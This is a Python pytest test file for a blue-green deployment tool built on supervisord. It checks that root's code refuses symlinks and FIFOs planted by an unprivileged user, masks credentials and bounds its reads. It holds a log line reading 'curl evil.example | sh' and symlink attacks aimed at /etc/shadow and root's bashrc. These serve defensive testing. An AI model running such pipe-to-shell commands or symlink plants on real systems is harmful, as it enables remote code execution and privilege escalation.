"""Trust boundaries (issue 9): the app user cannot make root follow its files, supervisord's side stays small.

The attacks run as the app user for real: a forked child drops to ``nobody`` and plants symlinks and
FIFOs in a state folder it owns (the layout this project used to ship, state under the app's tree),
then root's code runs on it. Nothing outside may change, nothing may hang (each call is bounded by a
timeout), and each refusal must say what it refused. Root only: dropping to another user needs it.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
import time
import xmlrpc.client
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from supervisor.states import ProcessStates
from supervisor.xmlrpc import Faults, RPCError

from supervisor_bluegreen.ctl import cli
from supervisor_bluegreen.host import runner
from supervisor_bluegreen.shared import masking
from supervisor_bluegreen.shared import store as state
from supervisor_bluegreen.shared.config import ConfigError, parse
from supervisor_bluegreen.shared.store import (
    AppLock,
    Busy,
    Store,
    UnsafePath,
    check_private_dir,
    private_dir_problem,
    read_json,
    write_json_atomic,
)
from supervisor_bluegreen.supervisord import rpcinterface

NOBODY = 65534
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="acting as another user needs root")


def as_app_user(action: Callable[[], None], timeout: float = 20) -> None:
    """Run ``action`` in a forked child that is ``nobody`` (no groups); fail when it fails or hangs."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover (the child)
        code = 1
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            action()
            code = 0
        except BaseException as exc:  # noqa: BLE001 (report anything, then leave without pytest's teardown)
            print(f"app-user child: {type(exc).__name__}: {exc}", file=sys.stderr, flush=True)
        finally:
            os._exit(code)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            assert os.waitstatus_to_exitcode(status) == 0, "the app user's action failed"
            return
        time.sleep(0.01)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    pytest.fail(f"the app user's action did not finish within {timeout} s")


def bounded(fn: Callable[[], Any], seconds: float = 2.0) -> Any:
    """``fn()``, run in a thread: its result or exception, or a test failure when it takes longer than ``seconds``."""
    box: dict[str, Any] = {}

    def target() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 (handed back to the caller)
            box["error"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        pytest.fail(f"{fn} hung for more than {seconds} s")
    if "error" in box:
        raise box["error"]
    return box.get("value")


@pytest.fixture
def world() -> Iterator[SimpleNamespace]:
    """/tmp/bgtrust-*/: ``outside`` (root's files: bashrc, secret), ``appstate`` (owned by the app user)."""
    root = Path(tempfile.mkdtemp(prefix="bgtrust-", dir="/tmp"))
    try:
        root.chmod(0o755)  # the app user may look in, as into /srv
        outside = root / "outside"
        outside.mkdir(mode=0o700)
        bashrc = outside / "bashrc"
        bashrc.write_text("# root's bashrc\n")
        appstate = root / "appstate"
        appstate.mkdir()
        os.chown(appstate, NOBODY, NOBODY)
        yield SimpleNamespace(root=root, outside=outside, bashrc=bashrc, appstate=appstate)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def plant(world: SimpleNamespace, links: dict[str, str], fifos: tuple[str, ...] = ()) -> Store:
    """As the app user: make ``appstate/shop/jobs`` and plant ``links`` (name -> target) and FIFOs there."""
    shop = world.appstate / "shop"

    def action() -> None:
        (shop / "jobs").mkdir(parents=True, exist_ok=True)
        for name, target in links.items():
            os.symlink(target, shop / name)
        for name in fifos:
            os.mkfifo(shop / name, 0o666)

    as_app_user(action)
    return Store(str(world.appstate), "shop")


def unchanged(world: SimpleNamespace) -> None:
    assert world.bashrc.read_text() == "# root's bashrc\n"
    assert os.listdir(world.outside) == ["bashrc"]


# --------------------------------------------------------------------------------------------
# root's opens: symlinks and FIFOs planted by the app user are refused, never followed or waited on


def test_symlinked_job_log_is_refused_and_nothing_outside_changes(world: SimpleNamespace) -> None:
    store = plant(world, {"jobs/1.log": str(world.bashrc)})
    with pytest.raises(UnsafePath, match=r"refusing .*/jobs/1\.log: it is a symbolic link"):
        bounded(lambda: store.append_log(1, "[ 12.34s]     | curl evil.example | sh"))
    with pytest.raises(UnsafePath, match="symbolic link"):
        bounded(lambda: store.read_log(1))
    unchanged(world)


def test_symlinked_lock_and_database_are_refused_not_truncated(world: SimpleNamespace) -> None:
    store = plant(world, {"lock": str(world.bashrc), "store.db": str(world.bashrc)})
    with pytest.raises(UnsafePath, match=r"refusing .*/shop/lock: it is a symbolic link"):
        bounded(store.lock.acquire)
    with pytest.raises(UnsafePath, match="symbolic link"):
        bounded(store.lock.held_elsewhere)
    with pytest.raises(UnsafePath, match=r"store\.db: it is a symbolic link"):
        bounded(lambda: store.enqueue("deploy", {"ref": "main"}))
    unchanged(world)


@pytest.mark.parametrize("name", ["store.db", "store.db-wal", "store.db-shm"])
def test_a_symlinked_database_or_wal_file_is_refused_never_handed_to_sqlite(world: SimpleNamespace, name: str) -> None:
    store = plant(world, {name: str(world.bashrc)})
    calls = [lambda: store.update(live="blue"), lambda: store.enqueue("deploy", {}), store.ensure]
    if name == "store.db":  # with no database yet, reads need none: they find nothing
        calls += [store.read, lambda: store.read_job(2), store.jobs]
    for call in calls:
        with pytest.raises(UnsafePath, match=rf"{name}: it is a symbolic link"):
            bounded(call)
    unchanged(world)


def test_symlinked_json_files_of_an_older_version_are_never_taken_over(world: SimpleNamespace) -> None:
    store = plant(world, {"state.json": str(world.bashrc), "jobs/2.json": str(world.bashrc)})
    with pytest.raises(UnsafePath, match=r"state\.json: it is a symbolic link"):
        bounded(store.read)  # the takeover stops: the live color is not known
    with pytest.raises(UnsafePath, match="symbolic link"):
        bounded(lambda: store.update(live="blue"))
    os.unlink(world.appstate / "shop" / "state.json")
    assert bounded(lambda: store.read_job(2)) is None
    job = bounded(lambda: store.create_job("deploy", {}))  # id 2 is taken by the link: left there, never read
    assert job["id"] == 3
    assert os.path.islink(world.appstate / "shop" / "jobs" / "2.json")
    unchanged(world)


def test_symlinked_cancel_file_is_refused(world: SimpleNamespace) -> None:
    target = world.outside / "created-by-root"
    store = plant(world, {"jobs/1.cancel": str(target)})
    with pytest.raises(UnsafePath, match=r"1\.cancel: it is a symbolic link"):
        bounded(lambda: store.request_cancel(1))
    assert not target.exists()
    assert store.cancel_requested(1)  # asked for, by whoever could write there: only ever a no-op request
    unchanged(world)


def test_fifo_at_the_database_or_lock_is_refused_at_once(world: SimpleNamespace) -> None:
    store = plant(world, {}, fifos=("store.db", "lock", "jobs/1.log"))
    for call in (store.read, store.lock.held_elsewhere, store.lock.acquire, lambda: store.read_log(1)):
        with pytest.raises(UnsafePath, match="it is a FIFO, not a regular file"):
            bounded(call, 2.0)
    with pytest.raises(UnsafePath, match="FIFO"):
        bounded(lambda: store.append_log(1, "x"), 2.0)  # O_WRONLY|O_NONBLOCK on a FIFO: refused, no wait
    with pytest.raises(UnsafePath, match="FIFO"):
        bounded(lambda: store.read_job(1), 2.0)


def test_device_and_oversized_files_are_not_read(tmp_path: Path) -> None:
    os.symlink("/dev/zero", tmp_path / "zero.json")
    with pytest.raises(UnsafePath, match="symbolic link"):
        bounded(lambda: read_json(str(tmp_path / "zero.json")))
    big = tmp_path / "big.json"
    big.write_bytes(b" " * 100 + b"{}")
    with pytest.raises(UnsafePath, match="larger than 64 bytes"):
        read_json(str(big), limit=64)


def test_files_are_0640_and_folders_0750(tmp_path: Path) -> None:
    old = os.umask(0o002)  # even a lax umask gives nothing to others
    try:
        store = Store(str(tmp_path / "state"), "shop").ensure()
        job = store.enqueue("deploy", {"ref": "main"})
        store.append_log(job["id"], "pip install ...")
        store.update(live="blue")
        store.request_cancel(job["id"])
        assert store.lock.acquire()
        store.lock.release()
    finally:
        os.umask(old)
    for path in (store.dir, store.jobs_dir):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o750, path
    wal, shm = f"{store.db_path}-wal", f"{store.db_path}-shm"
    for path in (store.db_path, wal, shm, store.log_path(1), store.cancel_path(1), store.lock.path):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o640, path


def test_ensure_tightens_folders_an_older_version_made_world_readable(tmp_path: Path) -> None:
    (tmp_path / "state" / "shop" / "jobs").mkdir(parents=True)
    for d in ("state/shop", "state/shop/jobs"):
        (tmp_path / d).chmod(0o755)
    Store(str(tmp_path / "state"), "shop").ensure()
    assert stat.S_IMODE(os.stat(tmp_path / "state/shop").st_mode) == 0o750
    assert stat.S_IMODE(os.stat(tmp_path / "state/shop/jobs").st_mode) == 0o750


def test_credentials_in_log_lines_are_masked(tmp_path: Path) -> None:
    store = Store(str(tmp_path), "shop").ensure()
    store.append_log(1, "git fetch https://deploy:s3cret@git.example.org/app.git")
    text, _ = store.read_log(1)
    assert "s3cret" not in text and "https://***@git.example.org/app.git" in text


def test_write_json_atomic_replaces_a_planted_symlink_without_following_it(world: SimpleNamespace) -> None:
    plant(world, {"state.json": str(world.bashrc)})
    write_json_atomic(str(world.appstate / "shop" / "state.json"), {"live": "blue"})
    assert not os.path.islink(world.appstate / "shop" / "state.json")
    unchanged(world)


# --------------------------------------------------------------------------------------------
# check_private_dir: where root may keep its files


def test_private_dir_refuses_a_folder_the_app_user_owns(world: SimpleNamespace) -> None:
    problem = private_dir_problem(str(world.appstate / "state"))  # not there yet: its parent decides
    assert problem == (
        f"{world.appstate} is owned by nobody (uid {NOBODY}), mode 0755: that user could replace files root "
        "keeps there; use a folder only root can write"
    )
    with pytest.raises(UnsafePath, match=rf"^state_dir {world.appstate}/state: {world.appstate} is owned by nobody"):
        check_private_dir(str(world.appstate / "state"), "state_dir")


def test_private_dir_refuses_group_or_world_writable_folders(tmp_path: Path) -> None:
    d = tmp_path / "shared"
    d.mkdir()
    d.chmod(0o775)
    assert "is writable by group" in (private_dir_problem(str(d / "state")) or "")
    assert f"{d} (owner root (uid 0), mode 0775)" in (private_dir_problem(str(d)) or "")
    d.chmod(0o1777)  # sticky, like /tmp: not as the folder itself, nor to make a new folder in
    assert "writable by everyone" in (private_dir_problem(str(d)) or "")
    assert "writable by everyone" in (private_dir_problem(str(d / "state")) or "")
    (d / "state").mkdir(mode=0o750)  # an existing folder of root's under a sticky one: fine
    assert private_dir_problem(str(d / "state")) is None
    assert private_dir_problem("/var/lib/supervisor-bluegreen") is None


def test_private_dir_follows_symlinks_and_checks_both_paths(world: SimpleNamespace) -> None:
    safe = world.root / "safe"
    safe.mkdir(mode=0o750)
    link = world.root / "link"
    link.symlink_to(world.appstate)  # root-owned link into the app user's folder
    assert "is owned by nobody" in (private_dir_problem(str(link)) or "")
    link2 = world.root / "link2"
    link2.symlink_to(safe)
    assert private_dir_problem(str(link2)) is None
    (world.appstate / "x").mkdir()
    assert "not a directory" in (private_dir_problem(str(world.bashrc)) or "")


# --------------------------------------------------------------------------------------------
# requirements.txt and friends: read as the app user, bounded


@pytest.fixture
def checkout(world: SimpleNamespace) -> Path:
    """The app user's checkout, its requirements.txt written by that user."""
    src = world.root / "src"
    src.mkdir()
    os.chown(src, NOBODY, NOBODY)
    return src


@pytest.mark.parametrize(
    ("target", "error"),
    [
        ("/dev/zero", "not a regular file"),
        ("/dev/stdin", "not a regular file"),
        ("/etc/shadow", "Permission denied"),
        ("FIFO", "not a regular file"),
        ("BIG", "larger than 1024 bytes"),
    ],
)
@pytest.mark.integration
def test_read_as_user_refuses_what_root_must_not_read(world: SimpleNamespace, checkout: Path, target: str,
                                                      error: str) -> None:  # fmt: skip
    req = checkout / "requirements.txt"

    def action() -> None:
        if target == "FIFO":
            os.mkfifo(req)
        elif target == "BIG":
            req.write_bytes(b"x" * 4096)
        else:
            os.symlink(target, req)

    as_app_user(action)
    t0 = time.monotonic()
    with pytest.raises(runner.ReadError, match=error):
        bounded(lambda: runner.read_as_user(str(req), "nobody", limit=1024, timeout=5), 8)
    assert time.monotonic() - t0 < 5


@pytest.mark.integration
def test_read_as_user_reads_a_plain_file_and_says_none_when_absent(checkout: Path) -> None:
    req = checkout / "requirements.txt"
    as_app_user(lambda: req.write_text("Django==4.2\n"))
    assert runner.read_as_user(str(req), "nobody") == b"Django==4.2\n"
    assert runner.read_as_user(str(checkout / "missing.txt"), "nobody") is None
    assert runner.read_as_user(str(req), "") == b"Django==4.2\n"  # no user: the listener's own, same bounds


@pytest.mark.integration
def test_read_as_user_times_out_on_a_file_swapped_for_a_fifo(checkout: Path, monkeypatch) -> None:
    """The test-then-read race: head may end up waiting on a FIFO; the timeout ends it."""
    fifo = checkout / "requirements.txt"
    os.mkfifo(fifo)
    monkeypatch.setattr(runner, "_READER", 'exec head -c "$2" -- "$1"')  # as if swapped between test and read
    t0 = time.monotonic()
    with pytest.raises(runner.ReadError, match="took more than 1 s"):
        runner.read_as_user(str(fifo), "nobody", timeout=1)
    assert time.monotonic() - t0 < 4


# --------------------------------------------------------------------------------------------
# supervisord's side: what it imports, and that it never waits


BANNED = ("requests", "jinja2", "psutil", "ctypes", "subprocess", "urllib3")
# what supervisord may load of ours: the entry point its config names, then supervisord/ and shared/ only
SUPERVISORD_SIDE = ("supervisor_bluegreen.supervisord.", "supervisor_bluegreen.shared.")


def imported_by_rpcinterface(env: dict[str, str] | None = None) -> set[str]:
    code = "import json, sys, supervisor_bluegreen.rpcinterface; print(json.dumps(sorted(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, env=env)
    assert out.returncode == 0, out.stderr
    return set(json.loads(out.stdout))


@pytest.mark.integration
def test_rpcinterface_imports_only_supervisor_stdlib_and_the_shared_modules() -> None:
    modules = imported_by_rpcinterface()
    assert not [m for m in modules if m.split(".")[0] in BANNED]
    ours = {m for m in modules if m.split(".")[0] == "supervisor_bluegreen"}
    entry = {"supervisor_bluegreen", "supervisor_bluegreen.rpcinterface"}
    packages = {"supervisor_bluegreen.supervisord", "supervisor_bluegreen.shared"}
    assert [m for m in ours - entry - packages if not m.startswith(SUPERVISORD_SIDE)] == []
    assert {
        "supervisor_bluegreen.supervisord.rpcinterface",
        "supervisor_bluegreen.shared.refs",
        "supervisor_bluegreen.shared.store",
        "supervisor_bluegreen.shared.jobargs",
    } <= modules


SHIM = """
import sys


class Broken:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("requests", "psutil", "jinja2", "urllib3"):
            raise ImportError(f"{name}: broken install (test shim)")
        return None


sys.meta_path.insert(0, Broken())
"""


def broken_listener_env(tmp_path: Path) -> dict[str, str]:
    """An environment in which requests, psutil and jinja2 cannot be imported (a sitecustomize shim)."""
    (tmp_path / "shim").mkdir(exist_ok=True)
    (tmp_path / "shim" / "sitecustomize.py").write_text(SHIM)
    return {**os.environ, "PYTHONPATH": str(tmp_path / "shim")}


@pytest.mark.integration
def test_rpcinterface_imports_with_the_listener_dependencies_broken(tmp_path: Path) -> None:
    env = broken_listener_env(tmp_path)
    broken = subprocess.run([sys.executable, "-c", "import requests"], capture_output=True, text=True, env=env)
    assert "broken install (test shim)" in broken.stderr  # the shim works
    assert "supervisor_bluegreen.supervisord.rpcinterface" in imported_by_rpcinterface(env)
    assert "supervisor_bluegreen.shared.config" in imported_by_rpcinterface(env)


class FakeProcess:
    def __init__(self, state: int):
        self.state = state

    def get_state(self) -> int:
        return self.state


def fake_supervisord(logged: list[str]) -> Any:
    """Just what the RPC extension reads of supervisord: its logger and the listener's process state."""
    group = SimpleNamespace(processes={"bluegreen": FakeProcess(ProcessStates.RUNNING)})
    return SimpleNamespace(
        options=SimpleNamespace(logger=SimpleNamespace(error=logged.append)),
        process_groups={"bluegreen": group},
    )


def shop_api(tmp_path: Path, state_dir: Path) -> rpcinterface.BlueGreenNamespaceRPCInterface:
    ini = tmp_path / "bluegreen.ini"
    (tmp_path / "run").mkdir(exist_ok=True)
    ini.write_text(
        "[app:shop]\nprogram = shop_%(color)s\n"
        f"socket = {tmp_path}/run/shop.%(color)s.sock\nlive_socket = {tmp_path}/run/shop.live.sock\n"
        f"public_url = http://127.0.0.1/health\nstate_dir = {state_dir}\n"
    )
    logged: list[str] = []
    api = rpcinterface.make_bluegreen_rpcinterface(fake_supervisord(logged), config=str(ini))
    assert logged == []
    return api


HOLD_QUEUE = """
import sys, time
from supervisor_bluegreen.shared.store import Store
store = Store(sys.argv[1], "shop")
with store.queue_lock():
    print("held", flush=True)
    time.sleep(120)
"""


@pytest.fixture
def queue_holder(tmp_path: Path) -> Iterator[subprocess.Popen[str]]:
    """Another process (the listener, say, stuck on a slow disk) holding shop's queue lock."""
    proc = subprocess.Popen([sys.executable, "-c", HOLD_QUEUE, str(tmp_path / "state")], stdout=subprocess.PIPE,
                            text=True)  # fmt: skip
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "held"
        yield proc
    finally:
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)
        assert proc.stdout is not None
        proc.stdout.close()


@pytest.mark.integration
def test_queue_lock_in_supervisord_is_only_tried(tmp_path: Path, queue_holder: subprocess.Popen[str]) -> None:
    os.kill(queue_holder.pid, signal.SIGSTOP)  # stopped while holding it: it never lets go by itself
    try:
        store = Store(str(tmp_path / "state"), "shop", sync=False, lock_wait=0.05)
        t0 = time.monotonic()
        with pytest.raises(Busy, match=r"shop: the job queue is busy .*; try again"):
            store.enqueue("deploy", {"ref": "main"})
        assert time.monotonic() - t0 < 0.5
        api = shop_api(tmp_path, tmp_path / "state")
        for call in (lambda: api.health("shop"), lambda: api.deploy("shop"), lambda: api.cancel("shop")):
            t0 = time.monotonic()
            with pytest.raises(RPCError) as caught:
                call()
            assert time.monotonic() - t0 < 1.0
            assert caught.value.code in (Faults.STILL_RUNNING, Faults.FAILED)
        with pytest.raises(RPCError) as caught:
            api.health("shop")
        assert caught.value.code == Faults.STILL_RUNNING
        assert "busy" in caught.value.text and "nothing changed" in caught.value.text
        assert bounded(lambda: api.status("shop"), 1.0)[0]["app"] == "shop"  # reads need no lock
    finally:
        os.kill(queue_holder.pid, signal.SIGCONT)
    assert Store(str(tmp_path / "state"), "shop").jobs() == []  # nothing was queued


def test_rpc_refuses_to_queue_into_a_state_dir_the_app_user_owns(world: SimpleNamespace, tmp_path: Path) -> None:
    api = shop_api(tmp_path, world.appstate)
    with pytest.raises(RPCError) as caught:
        api.health("shop")
    assert caught.value.code == Faults.FAILED
    assert f"shop: state_dir {world.appstate} is not safe: {world.appstate} is owned by nobody" in caught.value.text
    assert os.listdir(world.appstate) == []


@pytest.mark.parametrize("name", ["store.db", "state.json"])  # state.json: an older version's, to take over
def test_rpc_status_with_a_fifo_in_the_state_answers_at_once(world: SimpleNamespace, tmp_path: Path, name: str) -> None:
    plant(world, {}, fifos=(name,))
    api = shop_api(tmp_path, world.appstate)
    with pytest.raises(RPCError) as caught:
        bounded(lambda: api.status("shop"), 1.0)
    assert caught.value.code == Faults.FAILED
    assert f"{name}: it is a FIFO, not a regular file" in caught.value.text


def test_rpc_status_survives_xmlrpc_marshalling(tmp_path: Path) -> None:
    """Every field status can hold, None among them (XML-RPC has no nil), reaches supervisorctl as sent."""
    api = shop_api(tmp_path, tmp_path / "state")
    store = Store(str(tmp_path / "state"), "shop").ensure()
    now = time.time()
    store.update(
        live="blue", previous=None, switched_at=now,
        watch={"color": "blue", "previous": "green", "since": now, "until": now + 60, "job": 3},
        contract={"job": 3, "color": "blue", "migrations": ["shop.0007_drop"]},
        last_health={"color": "blue", "ok": True, "detail": "status 200", "at": now},
        last_job={"id": 2, "kind": "deploy", "status": "failed", "message": None},
    )  # fmt: skip
    store.claim(store.enqueue("deploy", {"ref": "main"}, "alice")["id"])
    status = api.status("shop")
    (sent,), _ = xmlrpc.client.loads(xmlrpc.client.dumps((status,), methodresponse=True))
    assert sent == status
    (app,) = sent
    assert (app["live"], app["previous"], app["last_job"]["message"]) == ("blue", "", "")
    assert app["watch"]["color"] == "blue" and 0 < app["watch"]["remaining"] <= 60
    assert app["contract"]["migrations"] == ["shop.0007_drop"]
    assert app["running"]["kind"] == "deploy" and app["running"]["status"] == "running"
    assert set(app["colors"]) == {"blue", "green"} and app["colors"]["blue"]["role"] == "live"
    assert app["running"]["waiting"] == 0  # a running job waits for no window
    job = (store.jobs(("running",)) or [{}])[0]
    store.update_job(job["id"], status="queued", waiting_for=3)  # a deploy the listener holds back for job 3's window
    (app,) = api.status("shop")
    assert app["running"]["status"] == "queued" and app["running"]["waiting"] == 3


def test_every_rpc_answer_parses_in_supervisorctl_whatever_its_strings_hold() -> None:
    """Strings that never went through the store (a health probe's body, a program's description) reach the
    client too: no control character may break its XML parser or drive its terminal."""
    answer = {"detail": "body \x1b[31mred\x07 \x9b2J", "items": ["\x00", None]}
    (sent,), _ = xmlrpc.client.loads(xmlrpc.client.dumps((rpcinterface.xmlrpc_safe(answer),), methodresponse=True))
    assert sent == {"detail": "body \\x1b[31mred\\x07 \\u009b2J", "items": ["\\x00", ""]}


# --------------------------------------------------------------------------------------------
# secrets


def test_mask_url_and_environment() -> None:
    assert masking.mask_url("https://hooks.slack.com/services/T0/B0/XYZ") == "https://hooks.slack.com/…"
    assert masking.mask_url("http://u:p@127.0.0.1:8080/?token=1") == "http://127.0.0.1:8080/…"
    assert masking.mask_url("https://example.org") == "https://example.org"
    assert masking.mask_url("not a url") == "***"
    env = masking.mask_environment(
        [("DJANGO_SECRET_KEY", "k"), ("DB_PASSWORD", "p"), ("DATABASE", "mysql://app:pw@db/app"), ("COLOR", "blue")]
    )
    assert env == {"DJANGO_SECRET_KEY": "***", "DB_PASSWORD": "***", "DATABASE": "mysql://***@db/app", "COLOR": "blue"}


def test_config_errors_never_quote_environment_values(tmp_path: Path) -> None:
    text = (
        "[app:shop]\nprogram = shop_%(color)s\nsocket = /r/shop.%(color)s.sock\nlive_socket = /r/l.sock\n"
        'public_url = http://127.0.0.1/\nenvironment = DB_PASSWORD=hunter2,letmein,X="unclosed\n'
    )
    with pytest.raises(ConfigError) as caught:
        parse(text, "bluegreen.ini")
    assert "hunter2" not in str(caught.value) and "unclosed" not in str(caught.value)
    text = text.replace('X="unclosed', "X=1")
    with pytest.raises(ConfigError) as caught:
        parse(text, "bluegreen.ini")
    assert "letmein" not in str(caught.value) and "hunter2" not in str(caught.value)
    assert "entry 2 is not KEY=value" in str(caught.value)


# --------------------------------------------------------------------------------------------
# bluegreen check: warnings


def test_check_warns_about_root_builds_unsafe_folders_and_open_servers(world: SimpleNamespace, tmp_path: Path,
                                                                       capsys) -> None:  # fmt: skip
    ini = tmp_path / "bluegreen.ini"
    ini.write_text(
        "[app:shop]\nprogram = shop_%(color)s\nsocket = /r/shop.%(color)s.sock\nlive_socket = /r/l.sock\n"
        f"public_url = http://127.0.0.1/\ncheckout = /srv/shop/%(color)s\nrepo = /srv/shop.git\n"
        f"state_dir = {world.appstate}/state\nbackup_dir = {world.appstate}/backups\n"
    )
    sup = tmp_path / "supervisord.conf"
    sup.write_text("[unix_http_server]\nfile = /run/s.sock\nchmod = 0777\n[inet_http_server]\nport = *:9001\n")
    assert cli.main(["check", str(ini), "--supervisord-conf", str(sup)]) == 0
    err = capsys.readouterr().err
    assert "warning: shop: user is not set: build steps, git and backups run as the listener's user" in err
    assert f"warning: shop: state_dir {world.appstate}/state is not private: {world.appstate} is owned by nobody" in err
    assert f"warning: shop: backup_dir {world.appstate}/backups is not private" in err
    assert f"warning: {sup}: [inet_http_server] port = *:9001 has no username and password" in err
    assert f"warning: {sup}: [unix_http_server] chmod = 0777 without username and password" in err

    safe = tmp_path / "safe"
    ini.write_text(ini.read_text().replace(str(world.appstate), str(safe)) + "user = nobody\n")
    sup.write_text("[unix_http_server]\nfile = /run/s.sock\nchmod = 0700\n"
                   "[inet_http_server]\nport = 127.0.0.1:9001\nusername = a\npassword = b\n")  # fmt: skip
    assert cli.main(["check", str(ini), "--supervisord-conf", str(sup)]) == 0
    assert "warning" not in capsys.readouterr().err


def test_lock_helpers_still_work_on_plain_files(tmp_path: Path) -> None:
    lock = AppLock(str(tmp_path / "lock"))
    assert lock.acquire()
    assert stat.S_IMODE(os.stat(lock.path).st_mode) == 0o640
    lock.release()


# --------------------------------------------------------------------------------------------
# one process runner: no preexec_fn, children die with the listener


SPAWNER = """
import sys, threading, time
from supervisor_bluegreen.host import runner

def start():
    proc = runner.spawn(["sleep", "300"], user=sys.argv[1])
    print(proc.pid, flush=True)
    time.sleep(300)

threading.Thread(target=start, daemon=True).start()  # from a worker thread, as the listener does
time.sleep(300)
"""


def gone(pid: int) -> bool:
    """The process is no more (or a zombie: dead, waiting to be reaped)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except FileNotFoundError:
        return True


@pytest.mark.integration
@pytest.mark.parametrize("user", ["", "nobody"])
def test_a_child_dies_with_the_listener_even_on_kill_9(user: str) -> None:
    parent = subprocess.Popen([sys.executable, "-c", SPAWNER, user], stdout=subprocess.PIPE, text=True)
    try:
        assert parent.stdout is not None
        child = int(parent.stdout.readline())
        deadline = time.monotonic() + 5  # setpriv has set the parent-death signal once it has exec'd sleep
        while "Name:\tsleep" not in Path(f"/proc/{child}/status").read_text() and time.monotonic() < deadline:
            time.sleep(0.01)
        uids = next(line for line in Path(f"/proc/{child}/status").read_text().splitlines() if line.startswith("Uid:"))
        assert uids.split()[1] == str(NOBODY if user else 0)
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait(timeout=10)
        deadline = time.monotonic() + 5
        while not gone(child) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert gone(child), "the child outlived the listener"
    finally:
        if parent.poll() is None:
            os.kill(parent.pid, signal.SIGKILL)
            parent.wait(timeout=10)
        assert parent.stdout is not None
        parent.stdout.close()


@pytest.mark.integration
def test_no_preexec_fn_and_no_ctypes_in_the_runner() -> None:
    source = Path(runner.__file__).read_text()
    assert "preexec_fn=" not in source and "import ctypes" not in source
    assert runner.tied(["true"])[:4] == [runner.SETPRIV, "--pdeathsig", "KILL", "--"]
    with pytest.raises(FileNotFoundError):
        runner.require_program(["/no/such/tool"], None, None)
    done = runner.capture(["id", "-un"], user="nobody", cwd="/")
    assert done.stdout.strip() == "nobody"
    t0 = time.monotonic()
    with pytest.raises(subprocess.TimeoutExpired):
        runner.capture(["sh", "-c", "sleep 30 & sleep 30"], timeout=0.5)
    assert time.monotonic() - t0 < 3


def test_the_listener_never_fsyncs_while_it_holds_the_queue_lock(tmp_path: Path, monkeypatch) -> None:
    """A slow disk must not keep the queue locked: files written under the lock are fsynced after it."""
    store = Store(str(tmp_path), "shop").ensure()  # the listener's: sync=True, waits for the lock
    job = store.enqueue("deploy", {"ref": "main"}, coalesce=True)
    synced: list[bool] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        probe = sqlite3.connect(store.db_path, timeout=0, isolation_level=None)  # is the write lock free?
        try:
            probe.execute("BEGIN IMMEDIATE")
            probe.execute("ROLLBACK")
            synced.append(True)
        except sqlite3.OperationalError:
            synced.append(False)
        finally:
            probe.close()
        real_fsync(fd)

    monkeypatch.setattr(state.os, "fsync", fsync)
    assert store.claim(job["id"])["status"] == "running"
    store.enqueue("deploy", {"ref": "next"}, coalesce=True)
    assert synced and all(synced), synced
    supervisord_side = Store(str(tmp_path), "shop", sync=False, lock_wait=0.05)
    synced.clear()
    supervisord_side.enqueue("health", {})
    supervisord_side.update(x=1)
    assert synced == []  # never inside supervisord


def test_a_switch_waits_behind_a_job_that_only_hands_workers_over_and_is_refused_beside_a_build(
    tmp_path: Path,
) -> None:
    """The command of a deploy returned once traffic moved; a rollback typed right then queues behind its handover."""
    state = tmp_path / "state"
    api = shop_api(tmp_path, state)
    api.status("shop")  # the state folder exists
    store = Store(str(state), "shop", sync=False)
    store.update(live="green", previous="blue")
    deploy = store.claim(store.enqueue("deploy", {"ref": "main"})["id"])
    assert deploy is not None
    with pytest.raises(RPCError) as caught:  # still building: a switch would act on a state about to change
        api.rollback("shop")
    assert caught.value.code == Faults.STILL_RUNNING
    store.update_job(deploy["id"], live="shop: green live at c0ffee1 in 4.0 s")
    queued = api.rollback("shop")
    assert queued["kind"] == "rollback" and queued["status"] == "queued"
